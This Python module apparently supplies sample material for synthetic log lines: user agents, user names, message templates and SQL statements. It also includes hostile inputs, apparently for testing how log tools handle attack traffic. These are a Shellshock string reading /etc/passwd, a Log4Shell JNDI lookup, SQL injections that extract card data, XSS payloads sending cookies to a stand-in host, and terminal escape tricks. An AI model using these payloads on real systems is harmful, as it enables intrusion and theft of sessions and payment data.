# ruff: noqa: E501 - agents are long, as in life
"""What log lines are made of: agents, people, attacks and complaints, as they come in real logs."""

from __future__ import annotations

AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.0 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Linux; Android 16; Pixel 10) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
    "okhttp/5.1.0 ShopApp/8.14 (Android 15; SM-S931B)",
    "ShopApp/8.14 CFNetwork/3860.200.71 Darwin/25.1.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
)  # fmt: skip

ATTACK_AGENTS = (
    "sqlmap/1.9.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "python-requests/2.32.3",
    "curl/8.14.1",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mMozilla/5.0",
    "() { :;}; echo; /bin/cat /etc/passwd",
    "${jndi:ldap://203.0.113.66:1389/a}",
    "Mozilla/5.0 \u202egnp.exe\u202c [bold red]x[/]",
)
"""The last four try to harm whatever shows them: escape sequences, shells, look-ups, markup."""

SQL_INJECTIONS = (
    "' OR '1'='1' --",
    "1; DROP TABLE users--",
    "' UNION SELECT card_number, cvv FROM cards--",
    "1' AND SLEEP(5)#",
    "admin'/*",
    "1 AND (SELECT 7 FROM (SELECT COUNT(*), CONCAT(version(), FLOOR(RAND(0)*2)) x FROM t GROUP BY x) a)",
)
SCRIPTS = (
    "<script>document.location='//203.0.113.9/c?'+document.cookie</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=fetch('//203.0.113.9')>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "\x1b]8;;http://203.0.113.9\x1b\\<b onmouseover=alert(1)>click\x1b]8;;\x1b\\",
)
TOKEN_ERRORS = (
    "JWT rejected: signature does not match key kid=2026-08",
    "JWT rejected: expired 4 h 12 min ago",
    "JWT rejected: alg none is not allowed",
    "OAuth token refused: audience shop-admin is not shop",
)
ATTACK_ADDRESSES = ("203.0.113.66", "203.0.113.9", "198.51.100.23", "198.51.100.77", "192.0.2.145", "2001:db8:bad::17")
PEOPLE = ("mina", "jun", "root", "admin", "deploy", "sofia", "test", "oracle", "minh", "lars")

INFO_LINES = (
    "order {number} accepted",
    "cart of session {number} was saved",
    "cache key product:{number} refreshed in {small} ms",
    "sent mail {number} to the queue",
    "health check answered in {small} ms",
    "worker {small} took job {number}",
)
DEBUG_LINES = (
    "pool has {small} idle connections",
    "flag checkout-v2 is on for user {number}",
    "retry budget at {small} %",
)
FAILURES = (
    "upstream {target} timed out after 3000 ms",
    "connection refused by {target}:8443",
    "{target} answered 503 after {small} tries",
    "could not serialize access due to concurrent update, asked by {target}",
    "reading from {target}: connection reset by peer",
)
REJECTIONS = (
    "circuit breaker to {target} is open: call {number} was not sent",
    "pool of {target} exhausted: 40 of 40 connections in use",
)
RETRIES = ("retrying {target}, attempt {small} of 3",)
CALLS = ("called {target}: done in {latency} ms", "{target} answered 200 in {latency} ms")
STATEMENTS = (
    "SELECT * FROM orders WHERE customer_id = $1 ORDER BY created_at DESC LIMIT 50",
    "UPDATE stock SET reserved = reserved + $1 WHERE sku = $2",
    "SELECT p.id, p.name, count(*) FROM products p JOIN reviews r ON r.product_id = p.id GROUP BY p.id",
    "INSERT INTO payments (order_id, amount, currency, state) VALUES ($1, $2, $3, 'new')",
    "SELECT id FROM sessions WHERE token = $1 FOR UPDATE",
    "DELETE FROM carts WHERE touched_at < now() - interval '30 days'",
)
